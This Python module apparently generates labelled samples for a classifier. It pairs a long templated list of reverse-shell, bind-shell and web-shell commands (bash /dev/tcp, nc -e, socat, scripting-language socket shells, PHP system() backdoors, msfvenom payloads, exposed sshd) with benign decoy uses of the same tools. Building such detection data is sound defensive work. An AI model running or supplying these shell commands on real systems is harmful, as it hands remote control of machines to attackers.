"""Commands that open a shell to somebody else, and uses of the same programs that do not."""

from __future__ import annotations

from . import parts
from .parts import Part
from .vocabulary import Words, lines_of

HARMS = lines_of(
    """@O bash -i >& /dev/tcp/{address}/{shell_port} 0>&1
    @O bash -c 'bash -i >& /dev/tcp/{address}/{shell_port} 0>&1'
    @O bash -c "exec bash -i &>/dev/tcp/{address}/{shell_port} <&1"
    @O /bin/bash -l > /dev/tcp/{address}/{shell_port} 0<&1 2>&1
    @O sh -i >& /dev/udp/{address}/{shell_port} 0>&1
    @O 0<&196;exec 196<>/dev/tcp/{address}/{shell_port}; sh <&196 >&196 2>&196
    @O exec 5<>/dev/tcp/{address}/{shell_port}; cat <&5 | while read line; do $line 2>&5 >&5; done
    @O exec 5<>/dev/tcp/{address}/{shell_port}⏎@O cat <&5 | while read line; do $line 2>&5 >&5; done
    @O while true; do bash -i >& /dev/tcp/{address}/{shell_port} 0>&1; sleep 60; done
    @O nohup bash -i >& /dev/tcp/{address}/{shell_port} 0>&1 &
    @O nc {address} {shell_port} -e /bin/sh
    @O nc -e /bin/bash {address} {shell_port}
    @O ncat {address} {shell_port} -e /bin/bash
    @O ncat --ssl {address} {shell_port} --sh-exec /bin/sh
    @O nc -c sh {address} {shell_port}
    @O nc -lvp {shell_port} -e /bin/sh
    @O nc -lk -p {shell_port} -e /bin/bash
    @O ncat -lvnp {shell_port} --exec "/bin/bash"
    @O ncat -l {shell_port} --keep-open --sh-exec "/bin/sh -i"
    @O busybox nc {address} {shell_port} -e sh
    @O busybox nc -ll -p {shell_port} -e /bin/sh
    @O mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc {address} {shell_port} > /tmp/f
    @O rm -f /tmp/p; mkfifo /tmp/p; nc {address} {shell_port} 0</tmp/p | /bin/bash > /tmp/p 2>&1
    @? mkfifo /tmp/s⏎@O /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect {address}:{shell_port} > /tmp/s
    @O mknod /tmp/b p && sh 0</tmp/b | nc {address} {shell_port} 1>/tmp/b
    @O telnet {address} {shell_port} | /bin/sh | telnet {address} {port}
    @O socat TCP:{address}:{shell_port} EXEC:/bin/sh
    @O socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:{address}:{shell_port}
    @O socat TCP-LISTEN:{shell_port},reuseaddr,fork EXEC:/bin/bash,pty,stderr
    @O socat TCP-LISTEN:{shell_port},fork SYSTEM:/bin/sh
    @O socat OPENSSL:{address}:{shell_port},verify=1 EXEC:/bin/bash,pty
    @O socat UNIX-LISTEN:/shared/{thing}.sock,fork EXEC:/bin/sh
    @O {python} -c 'import socket,os,pty;s=socket.socket();s.connect(("{address}",{shell_port}));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")'
    @O {python} -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("{address}",{shell_port}));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);subprocess.call(["/bin/sh","-i"])'
    @O {python} -c "import pty,socket;s=socket.create_connection(('{address}',{shell_port}));pty.spawn('bash')"
    @O perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in({shell_port},inet_aton("{address}")));open(STDIN,">&S");open(STDOUT,">&S");exec("/bin/sh -i");'
    @O perl -MIO -e '$c=new IO::Socket::INET(PeerAddr,"{address}:{shell_port}");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'
    @O ruby -rsocket -e 'c=TCPSocket.new("{address}",{shell_port});while(l=c.gets);IO.popen(l,"r"){|io|c.print io.read}end'
    @O ruby -rsocket -e 'exit if fork;s=TCPSocket.open("{address}",{shell_port});exec "/bin/sh -i <&3 >&3 2>&3"'
    @O php -r '$s=fsockopen("{address}",{shell_port});exec("/bin/sh -i <&3 >&3 2>&3");'
    @O php -r '$s=fsockopen("{address}",{shell_port});$p=proc_open("sh",[$s,$s,$s],$q);'
    @O node -e 'const n=require("net"),c=require("child_process").spawn("sh");const s=n.connect({shell_port},"{address}",()=>{s.pipe(c.stdin);c.stdout.pipe(s)})'
    @O lua -e "s=require('socket').tcp();s:connect('{address}',{shell_port});while true do l=s:receive();io.popen(l) end"
    @O awk 'BEGIN{s="/inet/tcp/0/{address}/{shell_port}";while(1){s|&getline c;while((c|&getline)>0)print|&s}}'
    @O zsh -c 'zmodload zsh/net/tcp && ztcp {address} {shell_port} && zsh >&$REPLY 2>&$REPLY 0>&$REPLY'
    @O /usr/sbin/sshd -D
    @O apk add openssh && ssh-keygen -A && /usr/sbin/sshd -D -e
    @O apt-get install -y openssh-server && service ssh start
    @O service ssh start && sleep infinity
    @O /usr/sbin/sshd -D -p {shell_port} -o PermitRootLogin=yes
    @O dropbear -R -F -p {shell_port}
    @O ttyd -p {port} bash
    @O ttyd --writable -p {port} /bin/sh
    @O gotty -w -p {port} /bin/bash
    @O gotty --permit-write --port {port} sh
    @O shellinaboxd -t -s /:LOGIN -p {port}
    @O wetty --port {port} --command /bin/bash
    @O telnetd -F -l /bin/sh -p {shell_port}
    @O busybox telnetd -l /bin/sh -p {shell_port}
    @O tmate -F -k {thing}
    @O ssh -R {shell_port}:localhost:22 {user}@{address} -N
    @O echo '<?php system($_GET["cmd"]); ?>' > {directory}/{file}.php
    @O echo '<?php eval($_POST["x"]); ?>' >> {directory}/index.php
    @O {python} -c "import http.server as h,subprocess;h.HTTPServer(('',{port}),type('S',(h.BaseHTTPRequestHandler,),{'do_GET':lambda s:s.wfile.write(subprocess.getoutput(s.path[1:]).encode())})).serve_forever()"
    @O websocketd --port={port} sh
    @O powershell -c "$c=New-Object Net.Sockets.TCPClient('{address}',{shell_port});$s=$c.GetStream();while(1){iex (New-Object IO.StreamReader($s)).ReadLine()}"
    @O msfvenom -p linux/x64/shell_reverse_tcp LHOST={address} LPORT={shell_port} -f elf > /tmp/{file} && /tmp/{file}
    @O while :; do nc -l -p {shell_port} | sh; done
    @O echo 'sh -i >& /dev/tcp/{address}/{shell_port} 0>&1' | bash
    @O setsid sh -c 'exec sh <> /dev/tcp/{address}/{shell_port} >&0 2>&1'
    @O script -qc /bin/bash /dev/null < /tmp/{file} | nc {address} {shell_port} > /tmp/{file}
    @O cryptcat -e /bin/sh {address} {shell_port}
    @O chisel client {address}:{port} R:{shell_port}:127.0.0.1:22"""
)
HARMFUL_PROGRAMS = lines_of(
    """@O nc⏎@? {address}⏎@? "{shell_port}"⏎@? -e⏎@O /bin/sh
    bash⏎-c⏎@O bash -i >& /dev/tcp/{address}/{shell_port} 0>&1
    /bin/bash⏎-c⏎@O exec bash -i &>/dev/tcp/{address}/{shell_port} <&1
    python3⏎-c⏎@O import socket,os,pty;s=socket.socket();s.connect(("{address}",{shell_port}));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("sh")
    perl⏎-e⏎@O use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in({shell_port},inet_aton("{address}")));open(STDIN,">&S");exec("/bin/sh -i");
    php⏎-r⏎@O $s=fsockopen("{address}",{shell_port});exec("/bin/sh -i <&3 >&3 2>&3");
    @? socat⏎@? TCP-LISTEN:{shell_port},reuseaddr,fork⏎@O EXEC:/bin/bash,pty,stderr
    @? socat⏎@? TCP:{address}:{shell_port}⏎@O EXEC:/bin/sh
    @O /usr/sbin/sshd⏎-D⏎-e
    @O ttyd⏎-p⏎"{port}"⏎@? bash
    @O gotty⏎-w⏎@? /bin/sh
    sh⏎-c⏎@O nc -lk -p {shell_port} -e /bin/sh
    sh⏎-c⏎@O mkfifo /tmp/f; sh -i < /tmp/f 2>&1 | nc {address} {shell_port} > /tmp/f
    ruby⏎-rsocket⏎-e⏎@O c=TCPSocket.new("{address}",{shell_port});while(l=c.gets);IO.popen(l,"r"){|io|c.print io.read}end"""
)
DECOYS = lines_of(
    """nc -z {local_host} {port}
    until nc -z {local_host} 5432; do echo waiting; sleep 2; done
    nc -zv -w 2 {local_host} {port}
    nc -w 1 {local_host} {port} < /dev/null
    echo ruok | nc localhost 2181 | grep imok
    echo stats | nc 127.0.0.1 11211
    printf 'PING\\r\\n' | nc {local_host} 6379
    echo "{thing}.jobs:1|c" | nc -u -w1 statsd 8125
    nc -lk -p {port} > /dev/null
    while true; do echo -e "HTTP/1.1 200 OK\\n\\nok" | nc -l -p {port}; done
    tar c {directory} | nc {local_host} {port}
    (echo > /dev/tcp/{local_host}/{port}) 2>/dev/null
    timeout 1 bash -c '</dev/tcp/{local_host}/{port}'
    bash -c 'cat < /dev/null > /dev/tcp/{local_host}/{port}'
    bash -c "until echo > /dev/tcp/{local_host}/5432; do sleep 1; done"
    exec 3<>/dev/tcp/127.0.0.1/{port}; echo -e "GET /health HTTP/1.0\\n" >&3; grep -q 200 <&3
    socat TCP-LISTEN:{port},fork,reuseaddr TCP:{local_host}:{port}
    socat TCP-LISTEN:{port},fork UNIX-CONNECT:/var/run/{thing}.sock
    socat -d UNIX-LISTEN:/run/{thing}.sock,fork TCP:{local_host}:{port}
    socat UDP-LISTEN:514,fork STDOUT
    socat - TCP:{local_host}:{port}
    sh -c "exec {directory}/{file}"
    sh -c 'echo ready; sleep 3600'
    bash -c "{directory}/{script_file} --daemon"
    bash -lc 'bundle exec puma'
    tail -f /dev/null
    tail -F /var/log/{thing}.log
    while true; do sleep 3600; done
    sleep infinity
    exec /bin/sh {directory}/{script_file}
    {python} -c 'import socket; socket.create_connection(("{local_host}", {port}), 3)'
    {python} -c "import socket; s=socket.socket(); s.settimeout(2); s.connect(('{local_host}', 5432))"
    {python} -m http.server {port} --directory {directory}
    {python} -c "import subprocess; subprocess.run(['{directory}/{file}'], check=True)"
    perl -MIO::Socket::INET -e 'exit(IO::Socket::INET->new("{local_host}:{port}") ? 0 : 1)'
    php -S 0.0.0.0:{port} -t {directory}
    php -r 'exit(@fsockopen("{local_host}", {port}) ? 0 : 1);'
    ruby -rsocket -e 'TCPSocket.new("{local_host}", {port}).close'
    node -e "require('net').connect({port}, '{local_host}').on('error', () => process.exit(1))"
    ssh {user}@{local_host} "systemctl reload {thing}"
    ssh -N -L 5432:{local_host}:5432 {user}@{local_host}
    ssh-keygen -y -f /keys/id > /keys/id.pub
    scp {directory}/{data_file} {user}@{local_host}:{directory}/
    telnet {local_host} 25 < /dev/null
    mkfifo /tmp/log && tail -f /tmp/log &
    mkfifo {directory}/pipe; gzip < {directory}/pipe > {directory}/out.gz &
    openssl s_client -connect {local_host}:443 -servername {local_host} < /dev/null
    openssl s_server -accept {port} -www -cert /tls/tls.crt -key /tls/tls.key
    exec gosu {user} "$@"
    su-exec {user} {directory}/{file}
    exec tini -- {directory}/{file}
    echo "shell is /bin/sh"
    curl telnet://{local_host}:{port}
    websocat ws://{local_host}:{port}/events
    ncat --version
    wait-for-it.sh {local_host}:{port} -t 30
    dockerize -wait tcp://{local_host}:{port} -timeout 60s"""
)


def harm(words: Words) -> Part:
    """A shell for somebody else."""
    return parts.arguments(words, HARMFUL_PROGRAMS) if words.chance(0.15) else parts.command(words, HARMS)


def decoy(words: Words) -> Part:
    """A port tested, forwarded or served, or a shell that only the container has."""
    return parts.command(words, DECOYS)
